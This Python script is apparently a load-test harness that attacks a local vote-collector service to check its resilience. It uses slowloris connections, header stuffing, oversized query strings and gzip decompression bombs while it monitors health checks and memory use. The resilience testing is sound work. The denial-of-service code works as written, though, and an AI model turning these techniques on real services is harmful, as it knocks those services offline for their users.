#!/usr/bin/env python3
"""attack: loads the collector the way an attacker would, for tests (test_load), while watching
its health and memory. Until SIGTERM (or --seconds):

  slowloris  --loris-addrs addresses (127.0.0.2, 127.0.0.3, ...) each hold --loris-per connections
             that send a partial request and then one header line every 2 s, never finishing it;
             a connection the collector closes is opened again at once
  stuffing   --stuff-addrs addresses (127.0.0.100, ...) each hold --loris-per connections that
             send --stuff-kib KiB of header lines at once (under the collector's per-connection
             limit: it must keep them) and then trickle like slowloris
  params     --params threads send, back to back from 127.0.0.80, ..., a complete GET with 5 000
             query parameters and no token (each costs the collector a record from the
             connection's memory pool), counted by status
  bombs      --bombs threads post, back to back, 4 KB of gzip that holds a JSON array of 2 million
             elements (4 MB, under the decompressed cap) to a kiosk's URL, half of them with the
             token given (--token, a real kiosk's: the parser is reached) and half with none;
             from their own addresses (127.0.0.50, ...)
  health     GET /healthz from 127.0.0.1 every second (2 s timeout, one retry after 0.5 s, as a
             load balancer would), counted ok or failed, and how often the retry was needed
  memory     the collector's VmRSS (--pid) sampled every 0.2 s: the largest seen; and its VmHWM
             (the kernel's own peak, which no sampling misses) at the end

At the end it writes JSON to --stats: slowloris and stuffed connections opened, bomb and params
answers by status, health checks ok/total, largest VmRSS and the VmHWM in KiB, VmRSS at the start.
"""
import argparse
import gzip
import http.client
import json
import os
import signal
import socket
import sys
import threading
import time

stop = threading.Event()
lock = threading.Lock()
stats = {"loris_opened": 0, "loris_held_max": 0, "stuff_opened": 0, "bomb_status": {},
         "params_status": {}, "health_ok": 0, "health_total": 0, "health_retried": 0,
         "health_failed_at": [],
         "rss_start_kib": 0, "rss_max_kib": 0, "hwm_kib": 0}
held = [0]


def bump(key, by=1):
    with lock:
        stats[key] += by


def rss_kib(pid, field="VmRSS:"):
    try:
        with open("/proc/%d/status" % pid) as f:
            for line in f:
                if line.startswith(field):
                    return int(line.split()[1])
    except OSError:
        pass
    return 0


def loris(src, port, stuff=b"", counter="loris_opened"):
    s = None
    while not stop.is_set():
        if s is None:
            try:
                s = socket.socket()
                s.bind((src, 0))
                s.settimeout(5)
                s.connect(("127.0.0.1", port))
                s.sendall(b"POST /v1/kiosks/k-01/vote-batches HTTP/1.1\r\nHost: x\r\n" + stuff)
                bump(counter)
                with lock:
                    held[0] += 1
                    stats["loris_held_max"] = max(stats["loris_held_max"], held[0])
            except OSError:
                s.close()
                s = None
                stop.wait(0.2)
                continue
        stop.wait(2)
        try:
            s.sendall(b"X-a: b\r\n")
        except OSError:
            s.close()
            s = None
            with lock:
                held[0] -= 1
    if s is not None:
        s.close()


def bomb_body():
    raw = b'{"v":1,"kiosk_id":"%s","batch_id":"00000000-0000-4000-8000-000000000001",' \
          b'"frozen_at":1,"votes":[' % KIOSK.encode() + b"0," * 1999999 + b"0]}"
    return gzip.compress(raw, 9)


def bomber(i, port, token, body):
    src = "127.0.0.%d" % (50 + i)
    while not stop.is_set():
        status = "error"
        try:
            c = http.client.HTTPConnection("127.0.0.1", port, timeout=10, source_address=(src, 0))
            headers = {"Content-Type": "application/json", "Content-Encoding": "gzip",
                       "Idempotency-Key": "00000000-0000-4000-8000-000000000001"}
            if i % 2 == 0 and token:
                headers["Authorization"] = "Bearer " + token
            c.request("POST", "/v1/kiosks/%s/vote-batches" % KIOSK, body=body, headers=headers)
            r = c.getresponse()
            r.read()
            status = str(r.status)
            c.close()
        except (OSError, http.client.HTTPException) as e:
            status = "error-" + type(e).__name__  # unanswered: how
        with lock:
            stats["bomb_status"][status] = stats["bomb_status"].get(status, 0) + 1
        if status.startswith("error") or status == "429":
            stop.wait(0.1)


def stuffing(kib):
    """kib KiB of header lines of 1 000 bytes, each with a name of its own."""
    return b"".join(b"X-%05d: " % i + b"a" * 990 + b"\r\n" for i in range(kib * 1024 // 1000))


def params(i, port):
    src = "127.0.0.%d" % (80 + i)
    target = "/v1/summary?" + "&".join("a%d=1" % n for n in range(5000))
    while not stop.is_set():
        status = "error"
        try:
            c = http.client.HTTPConnection("127.0.0.1", port, timeout=10, source_address=(src, 0))
            c.request("GET", target)
            r = c.getresponse()
            r.read()
            status = str(r.status)
            c.close()
        except (OSError, http.client.HTTPException) as e:
            status = "error-" + type(e).__name__  # unanswered: how
        with lock:
            stats["params_status"][status] = stats["params_status"].get(status, 0) + 1
        if status.startswith("error"):
            stop.wait(0.1)


def health(port, t0):
    while not stop.is_set():
        ok = False
        for attempt in range(2):
            try:
                c = http.client.HTTPConnection("127.0.0.1", port, timeout=2)
                c.request("GET", "/healthz")
                r = c.getresponse()
                r.read()
                c.close()
                if r.status == 200:
                    ok = True
                    break
            except (OSError, http.client.HTTPException):
                pass
            if attempt == 0:
                bump("health_retried")
            if stop.wait(0.5):
                break
        with lock:
            stats["health_total"] += 1
            if ok:
                stats["health_ok"] += 1
            else:
                stats["health_failed_at"].append(round(time.time() - t0, 1))
        stop.wait(1)


def memory(pid):
    while not stop.is_set():
        r = rss_kib(pid)
        with lock:
            stats["rss_max_kib"] = max(stats["rss_max_kib"], r)
        stop.wait(0.2)


KIOSK = "k-01"


def main():
    global KIOSK
    ap = argparse.ArgumentParser(description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--pid", type=int, required=True)
    ap.add_argument("--stats", required=True)
    ap.add_argument("--kiosk", default="k-01")
    ap.add_argument("--token", default="")
    ap.add_argument("--loris-addrs", type=int, default=8)
    ap.add_argument("--loris-per", type=int, default=16)
    ap.add_argument("--bombs", type=int, default=8)
    ap.add_argument("--stuff-addrs", type=int, default=0)
    ap.add_argument("--stuff-kib", type=int, default=256)
    ap.add_argument("--params", type=int, default=0)
    ap.add_argument("--seconds", type=float, default=3600)
    a = ap.parse_args()
    # Each kind has addresses of its own: slowloris .2-.49, bombs .50-.79, params .80-.99,
    # stuffing .100-.
    if a.loris_addrs > 48 or a.bombs > 30 or a.params > 20 or a.stuff_addrs > 150:
        ap.error("at most 48 --loris-addrs, 30 --bombs, 20 --params, 150 --stuff-addrs")
    KIOSK = a.kiosk
    stats["rss_start_kib"] = rss_kib(a.pid)
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    body = bomb_body()
    t0 = time.time()
    threads = [threading.Thread(target=memory, args=(a.pid,)),
               threading.Thread(target=health, args=(a.port, t0))]
    for n in range(a.loris_addrs):
        for _ in range(a.loris_per):
            threads.append(threading.Thread(target=loris, args=("127.0.0.%d" % (n + 2), a.port)))
    stuff = stuffing(a.stuff_kib)
    for n in range(a.stuff_addrs):
        for _ in range(a.loris_per):
            threads.append(threading.Thread(target=loris, args=(
                "127.0.0.%d" % (n + 100), a.port, stuff, "stuff_opened")))
    for i in range(a.bombs):
        threads.append(threading.Thread(target=bomber, args=(i, a.port, a.token, body)))
    for i in range(a.params):
        threads.append(threading.Thread(target=params, args=(i, a.port)))
    for t in threads:
        t.daemon = True
        t.start()
    print("attacking (bomb: %d bytes of gzip)" % len(body), flush=True)
    stop.wait(a.seconds)
    stop.set()
    for t in threads:
        t.join(15)
    stats["hwm_kib"] = rss_kib(a.pid, "VmHWM:")
    stats["bomb_bytes"] = len(body)
    stats["seconds"] = round(time.time() - t0, 1)
    with open(a.stats + ".tmp", "w") as f:
        json.dump(stats, f)
    os.rename(a.stats + ".tmp", a.stats)


if __name__ == "__main__":
    sys.exit(main())
